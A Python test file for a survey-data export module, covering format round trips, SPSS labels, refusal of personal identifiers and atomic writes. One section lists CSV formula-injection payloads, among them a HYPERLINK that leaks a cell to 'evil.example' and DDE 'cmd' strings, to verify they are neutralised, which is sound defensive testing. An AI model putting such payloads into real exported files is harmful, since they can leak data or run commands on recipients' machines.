"""Tests for mognad.io.export: round trips, SPSS labels, pseudonymity, atomic writes.

Expected labels come from the codebook file itself (``mognad/data/mognad-default-1.yaml``), read
back from the written files with independent readers (pyreadstat, openpyxl, pyarrow).
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pyreadstat
import pytest

from mognad.codebook import load_codebook
from mognad.errors import MognadError
from mognad.io.export import check_pseudonymous, export_responses_wide, export_table


@pytest.fixture
def long_responses() -> pd.DataFrame:
    rows = []
    for org, resp, unit, base in (
        ("0114", "p-7f3a", "Kultur/Bibliotek", 2),
        ("0114", "p-91c2", pd.NA, 4),
        ("1384", "p-03bd", "Skola", 5),
    ):
        for i in range(1, 31):
            value = pd.NA if (resp == "p-91c2" and i == 7) else (base + i) % 6 + 1
            rows.append(
                {
                    "org_id": org,
                    "round": 2024,
                    "respondent_id": resp,
                    "unit": unit,
                    "role": "chef" if resp == "p-03bd" else pd.NA,
                    "item_id": f"q{i:02d}",
                    "value": value,
                }
            )
    frame = pd.DataFrame(rows)
    frame["value"] = frame["value"].astype("Int64")
    return frame


@pytest.fixture
def wide(long_responses) -> pd.DataFrame:
    return export_responses_wide(long_responses)


@pytest.fixture
def scores() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "org_id": ["0114", "1384"],
            "name": ["Upplands Väsby", "Kungsbacka"],
            "round": [2024, 2024],
            "effektivitet": [52.5, 61.0],
            "forvaltning": [40.0, 70.25],
            "formaga": [55.0, 57.5],
            "arv_pct": [45.0, 66.0],
            "n": [12, 30],
        }
    )


# ------------------------------------------------------------------------------ wide responses
def test_export_responses_wide_shape_and_types(wide):
    cb = load_codebook()
    assert (
        wide.columns.tolist() == ["org_id", "round", "respondent_id", "unit", "role"] + cb.item_ids
    )
    assert len(wide) == 3
    assert wide["respondent_id"].tolist() == ["p-7f3a", "p-91c2", "p-03bd"]
    assert all(str(wide[i].dtype) == "Int64" for i in cb.item_ids)
    row = wide.set_index("respondent_id").loc["p-91c2"]
    assert pd.isna(row["q07"])  # don't know stays missing, never 0
    assert row["q01"] == (4 + 1) % 6 + 1
    assert wide["org_id"].tolist() == ["0114", "0114", "1384"]


def test_export_responses_wide_refuses_email_ids(long_responses):
    long_responses.loc[long_responses.respondent_id == "p-03bd", "respondent_id"] = "eva@x.se"
    with pytest.raises(MognadError, match="'@'"):
        export_responses_wide(long_responses)


# ------------------------------------------------------------------------------ round trips
def test_csv_round_trip_keeps_ids_and_writes_provenance(wide, tmp_path):
    out = export_table(wide, tmp_path / "resp.csv", provenance={"fingerprint": "abc123"})
    assert out == tmp_path / "resp.csv"
    back = pd.read_csv(out, dtype={"org_id": str, "respondent_id": str})
    assert back["org_id"].tolist() == ["0114", "0114", "1384"]
    assert back.columns.tolist() == wide.columns.tolist()
    pd.testing.assert_series_equal(back["q01"].astype("Int64"), wide["q01"], check_names=True)
    assert back["q07"].isna().tolist() == [False, True, False]
    sidecar = json.loads((tmp_path / "resp.csv.provenance.json").read_text("utf-8"))
    assert sidecar == {"fingerprint": "abc123"}


def test_xlsx_round_trip(scores, tmp_path):
    out = export_table(
        scores, tmp_path / "scores.xlsx", provenance={"codebook": "mognad-default-1"}
    )
    sheets = pd.read_excel(out, sheet_name=None, dtype={"org_id": str})
    assert list(sheets) == ["data", "provenance"]
    pd.testing.assert_frame_equal(sheets["data"], scores, check_dtype=False)
    assert sheets["provenance"].values.tolist() == [["codebook", "mognad-default-1"]]


def test_parquet_round_trip_keeps_dtypes(wide, tmp_path):
    out = export_table(wide, tmp_path / "resp.parquet", provenance={"synthetic": True})
    back = pd.read_parquet(out)
    pd.testing.assert_frame_equal(back, wide, check_dtype=False)
    assert str(back["q01"].dtype) == "Int64"
    assert pd.api.types.is_string_dtype(back["org_id"])
    meta = pq.read_schema(out).metadata[b"mognad.provenance"]
    assert json.loads(meta) == {"synthetic": True}


def test_sav_round_trip_has_codebook_labels(wide, tmp_path):
    out = export_table(wide, tmp_path / "resp.sav", provenance={"fingerprint": "abc123"})
    data, meta = pyreadstat.read_sav(out)
    # values and ids survive
    assert data["org_id"].tolist() == ["0114", "0114", "1384"]
    assert data["respondent_id"].tolist() == ["p-7f3a", "p-91c2", "p-03bd"]
    assert data["q01"].tolist() == wide["q01"].astype(float).tolist()
    assert pd.isna(data.loc[1, "q07"])
    # variable labels: the Swedish item texts of mognad-default-1.yaml
    labels = meta.column_names_to_labels
    assert labels["q01"] == "… systematiska i att förbättra våra arbetssätt med digitalt stöd."
    assert labels["q30"] == "… förvaltning som lämnar resurser över till ny utveckling."
    assert labels["org_id"] == "Organisations-id"
    # value labels: the codebook's scale (1 = Stämmer inte alls ... 6 = Stämmer helt)
    assert meta.variable_value_labels["q15"] == {
        1.0: "Stämmer inte alls",
        2.0: "Stämmer dåligt",
        3.0: "Stämmer ganska dåligt",
        4.0: "Stämmer ganska bra",
        5.0: "Stämmer bra",
        6.0: "Stämmer helt",
    }
    assert "org_id" not in meta.variable_value_labels
    assert meta.variable_measure["q01"] == "ordinal"
    assert meta.variable_measure["org_id"] == "nominal"
    assert meta.notes == ['{"fingerprint": "abc123"}']


def test_sav_labels_for_category_and_dimension_columns(scores, tmp_path):
    export_table(scores, tmp_path / "scores.sav")
    _, meta = pyreadstat.read_sav(tmp_path / "scores.sav")
    labels = meta.column_names_to_labels
    assert labels["effektivitet"] == "Effektivitet"
    assert labels["forvaltning"] == "Förvaltning"
    assert labels["formaga"] == "Digital förmåga"
    assert labels["arv_pct"] == "Digitalt arv (pct)"
    assert meta.variable_value_labels == {}  # scores are not answers on the scale

    export_table(scores, tmp_path / "scores_en.sav", labels_lang="en")
    _, meta_en = pyreadstat.read_sav(tmp_path / "scores_en.sav")
    assert meta_en.column_names_to_labels["formaga"] == "Digital capability"
    assert meta_en.column_names_to_labels["forvaltning"] == "Management of systems"


def test_sav_uses_a_given_codebook(wide, tmp_path):
    cb = load_codebook("mognad-default-1")
    export_table(wide, tmp_path / "resp.sav", codebook=cb, labels_lang="en")
    _, meta = pyreadstat.read_sav(tmp_path / "resp.sav")
    assert meta.column_names_to_labels["q16"] == cb.label("item", "q16", "en")
    assert meta.variable_value_labels["q16"][6.0] == "Fits completely"


def test_numeric_ids_are_written_as_text(tmp_path):
    frame = pd.DataFrame({"org_id": [1384.0, 114.0], "value": [1.5, 2.5]})
    export_table(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text("utf-8").splitlines()[1].startswith("1384,")


# ------------------------------------------------------------------------------ formats
def test_format_from_suffix_and_explicit(scores, tmp_path):
    out = export_table(scores, tmp_path / "scores.data", format="parquet")
    assert pd.read_parquet(out)["org_id"].tolist() == ["0114", "1384"]
    export_table(scores, tmp_path / "scores.PQ")
    assert pq.read_table(tmp_path / "scores.PQ").num_rows == 2
    with pytest.raises(MognadError, match="suffix '.txt'"):
        export_table(scores, tmp_path / "scores.txt")
    with pytest.raises(MognadError, match="unknown export format 'json'"):
        export_table(scores, tmp_path / "scores.csv", format="json")
    with pytest.raises(MognadError, match="labels_lang"):
        export_table(scores, tmp_path / "scores.sav", labels_lang="de")
    assert not (tmp_path / "scores.txt").exists()


def test_creates_missing_folders(scores, tmp_path):
    out = export_table(scores, tmp_path / "a" / "b" / "scores.csv")
    assert out.is_file()


# ------------------------------------------------------------------------------ pseudonymity
@pytest.mark.parametrize(
    ("column", "values"),
    [
        ("email", ["a@x.se", "b@x.se", "c@x.se"]),
        ("E-post", ["a", "b", "c"]),
        ("respondent_email", ["a", "b", "c"]),
        ("personnummer", ["x", "y", "z"]),
        ("first_name", ["Anna", "Bo", "Cecilia"]),
        ("name", ["Anna", "Bo", "Cecilia"]),  # a person's name in respondent-level data
        ("comment", ["ok", "ring anna.berg@kommun.se", "bra"]),
        ("comment", ["ok", "19800101-1234", "bra"]),
    ],
)
def test_refuses_raw_identities(wide, tmp_path, column, values):
    frame = wide.assign(**{column: values})
    with pytest.raises(MognadError, match="refusing to export"):
        export_table(frame, tmp_path / "resp.csv")
    assert list(tmp_path.iterdir()) == []


def test_refuses_at_sign_in_respondent_id(wide, tmp_path):
    frame = wide.copy()
    frame.loc[2, "respondent_id"] = "cecilia.svensson@region.se"
    with pytest.raises(MognadError, match="'respondent_id' row 2 contains '@'"):
        export_table(frame, tmp_path / "resp.sav")
    assert list(tmp_path.iterdir()) == []


def test_organisation_names_are_allowed_outside_respondent_data(scores):
    check_pseudonymous(scores)  # "name" is the organisation's name here: no error


# ------------------------------------------------------------------------------ atomicity
def test_failed_sav_write_leaves_nothing(wide, tmp_path, monkeypatch):
    def broken_writer(df, dst_path, **kwargs):
        Path(dst_path).write_bytes(b"half a file")
        raise OSError("disk full")

    monkeypatch.setattr(pyreadstat, "write_sav", broken_writer)
    with pytest.raises(MognadError, match="could not write .*resp.sav as sav: disk full"):
        export_table(wide, tmp_path / "resp.sav")
    assert list(tmp_path.iterdir()) == []


def test_failed_write_keeps_the_previous_file(scores, tmp_path, monkeypatch):
    target = tmp_path / "scores.parquet"
    export_table(scores, target)
    before = target.read_bytes()

    def broken_writer(table, where, **kwargs):
        Path(where).write_bytes(b"PAR1 truncated")
        raise RuntimeError("interrupted")

    monkeypatch.setattr(pq, "write_table", broken_writer)
    with pytest.raises(MognadError, match="interrupted"):
        export_table(scores.assign(n=[1, 2]), target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["scores.parquet"]


def test_invalid_spss_name_is_a_user_error(scores, tmp_path):
    with pytest.raises(MognadError, match="could not write"):
        export_table(scores.rename(columns={"n": "antal svar"}), tmp_path / "scores.sav")
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------------------ SPSS for R haven
DATA = Path(__file__).parent / "data"
# > 80 bytes with Swedish letters: SPSS document lines hold 80 bytes, so this needs several lines
HAVEN_PROVENANCE = {
    "study": "studier/Åre kommun 2024",
    "data_fingerprint": "f" * 64,
    "codebook": "mognad-default-1",
    "synthetic": False,
    "parameters": {"what": "responses", "round": 2024},
    "note": "Mätomgång 2024; svar från Äldreomsorg, Överförmyndarnämnden och Hemtjänst",
}


def haven_frame() -> pd.DataFrame:
    """The respondent-level table behind tests/data/sav_haven.out (keep it unchanged)."""
    cb = load_codebook()
    frame = pd.DataFrame({
        "org_id": ["0114", "0114", "1384"],
        "round": [2024, 2024, 2024],
        "respondent_id": ["p-7f3a", "p-91c2", "p-03bd"],
        "unit": pd.array(["Äldreomsorg/Hemtjänst – Öst", "Kultur/Bibliotek", pd.NA],
                         dtype="string"),
        "role": pd.array(["förvaltningschef", pd.NA, "strateg"], dtype="string"),
    })
    for i, item in enumerate(cb.item_ids, start=1):
        values = [(b + i) % 6 + 1 for b in (2, 4, 5)]
        frame[item] = pd.array(values, dtype="Int64")
    frame.loc[1, "q07"] = pd.NA  # don't know: system-missing, never 0
    return frame


def _read_haven_out(path: Path) -> dict:
    out = {"vars": {}, "labels": {}, "rows": []}
    for line in path.read_text("utf-8").splitlines():
        tag, _, rest = line.partition("\t")
        if tag == "var":
            name, cls, label = rest.split("\t")
            out["vars"][name] = (cls, label)
        elif tag == "labels":
            name, pairs = rest.split("\t")
            out["labels"][name] = {float(k): v for k, v in (p.split("=", 1)
                                                            for p in pairs.split("|"))}
        elif tag == "row":
            out["rows"].append(rest.split("\t"))
        else:
            out[tag] = rest
    return out


def _as_r_text(value) -> str:
    if isinstance(value, float):
        return "NA" if value != value else (str(int(value)) if value.is_integer() else repr(value))
    return str(value)


def test_sav_read_by_r_haven(tmp_path):
    """The .sav is read by R haven with the same values, Swedish labels and provenance.

    Reference: tests/data/sav_haven.out, written by ``Rscript tests/data/sav_haven.R`` (R 4.2.2,
    haven 2.5.1) from this very file; when Rscript with haven is installed the test runs R again
    and requires the same output. The expected labels are the codebook's texts.
    """
    import shutil
    import subprocess

    out = export_table(haven_frame(), tmp_path / "haven.sav", provenance=HAVEN_PROVENANCE)
    ref = _read_haven_out(DATA / "sav_haven.out")
    # what R saw, against independent sources: the frame above and the codebook YAML
    assert ref["dim"] == "3\t35"
    assert json.loads(ref["notes"]) == HAVEN_PROVENANCE
    assert int(ref["n_notes"]) > 1  # split into SPSS's 80-byte document lines
    assert ref["vars"]["q01"] == (
        "haven_labelled", "… systematiska i att förbättra våra arbetssätt med digitalt stöd.")
    assert ref["vars"]["unit"] == ("character", "Enhet")
    assert ref["labels"]["q15"][1.0] == "Stämmer inte alls"
    assert ref["labels"]["q15"][6.0] == "Stämmer helt"
    assert ref["rows"][0][:5] == ["0114", "2024", "p-7f3a", "Äldreomsorg/Hemtjänst – Öst",
                                  "förvaltningschef"]
    assert ref["rows"][1][5 + 6] == "NA"  # q07 of p-91c2: missing, not 0
    # what pyreadstat reads from the file written now is what R read
    data, meta = pyreadstat.read_sav(out)
    assert "".join(meta.notes) == ref["notes"]
    assert meta.file_label == ref["file_label"]
    for name, (_, label) in ref["vars"].items():
        assert (meta.column_names_to_labels.get(name) or "") == label, name
    assert meta.variable_value_labels == ref["labels"]
    rows = [[_as_r_text(v) for v in row] for row in data.itertuples(index=False)]
    assert rows == ref["rows"]
    # and R itself, when it is installed
    rscript = shutil.which("Rscript")
    if rscript is None:
        pytest.skip("Rscript not installed: compared with the stored R output only")
    if subprocess.run([rscript, "-e", "library(haven)"], capture_output=True).returncode:
        pytest.skip("R package haven not installed: compared with the stored R output only")
    again = tmp_path / "haven.out"
    subprocess.run([rscript, str(DATA / "sav_haven.R"), str(out), str(again)], check=True,
                   env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8"})
    assert again.read_text("utf-8") == (DATA / "sav_haven.out").read_text("utf-8")


# ------------------------------------------------------------------------------ formula injection
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Öppna")',  # OWASP "CSV injection" examples
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE) + 2
    return pd.DataFrame({
        "org_id": ["0114"] * n,
        "unit": [*HOSTILE, "-5", "Kultur/Bibliotek"],
        "change": [-1.5, -2.0, 3.0, -0.25, 0.0, -7.0, 1.0, -5.0, 2.5],  # negative numbers
        "n": pd.array([-3, 4, 5, 6, 7, 8, 9, 10, 11], dtype="Int64"),
    })


def test_csv_export_neutralises_formulas(tmp_path):
    import csv

    out = export_table(hostile_frame().rename(columns={"n": "=n"}), tmp_path / "t.csv")
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["org_id", "unit", "change", "'=n"]
    units = [r[1] for r in rows[1:]]
    # OWASP: prefix every cell starting with = + - @ tab CR with an apostrophe
    assert units[: len(HOSTILE)] == ["'" + u for u in HOSTILE]
    assert units[len(HOSTILE):] == ["-5", "Kultur/Bibliotek"]  # a plain number and plain text
    assert [r[2] for r in rows[1:]] == ["-1.5", "-2.0", "3.0", "-0.25", "0.0", "-7.0", "1.0",
                                        "-5.0", "2.5"]
    assert rows[1][3] == "-3"
    # a carriage return inside a cell is quoted (RFC 4180 line ends), so it cannot split a row
    assert len(rows) == len(HOSTILE) + 3
    assert b'"\'\r=1+1"' in out.read_bytes()


def test_xlsx_export_writes_formulas_as_text(tmp_path):
    import openpyxl

    out = export_table(hostile_frame(), tmp_path / "t.xlsx",
                       provenance={"study": "=cmd|' /C calc'!A0"})
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    wb = openpyxl.load_workbook(out)
    ws = wb["data"]
    units = [ws.cell(row=r, column=2) for r in range(2, len(HOSTILE) + 4)]
    assert all(c.data_type == "s" for c in units)
    # the exact text (XML itself turns a carriage return into a line feed)
    assert [c.value for c in units] == [h.replace("\r", "\n") for h in HOSTILE] + [
        "-5", "Kultur/Bibliotek"]
    changes = [ws.cell(row=r, column=3) for r in range(2, len(HOSTILE) + 4)]
    assert all(c.data_type == "n" for c in changes)
    assert changes[0].value == -1.5 and ws.cell(row=2, column=4).value == -3
    assert wb["provenance"].cell(row=2, column=2).data_type == "s"


def test_long_provenance_fits_spss_document_lines(scores, tmp_path):
    provenance = {"study": "/data/studier/" + "Överförmyndare " * 20, "synthetic": True,
                  "parameters": {"n_boot": 1000, "seed": 0, "peer": "org_type"}}
    out = export_table(scores, tmp_path / "s.sav", provenance=provenance)
    _, meta = pyreadstat.read_sav(out)
    assert all(len(line.encode("utf-8")) <= 80 for line in meta.notes)
    assert json.loads("".join(meta.notes)) == provenance


def test_unwritable_target_is_a_user_error(scores, tmp_path):
    locked = tmp_path / "locked"
    locked.mkdir()
    (locked / "file").write_text("x")
    with pytest.raises(MognadError, match="cannot write"):
        export_table(scores, locked / "file" / "scores.csv")  # a file where a folder must be
    (locked / "scores.csv").mkdir()
    with pytest.raises(MognadError, match="it is a folder"):
        export_table(scores, locked / "scores.csv")
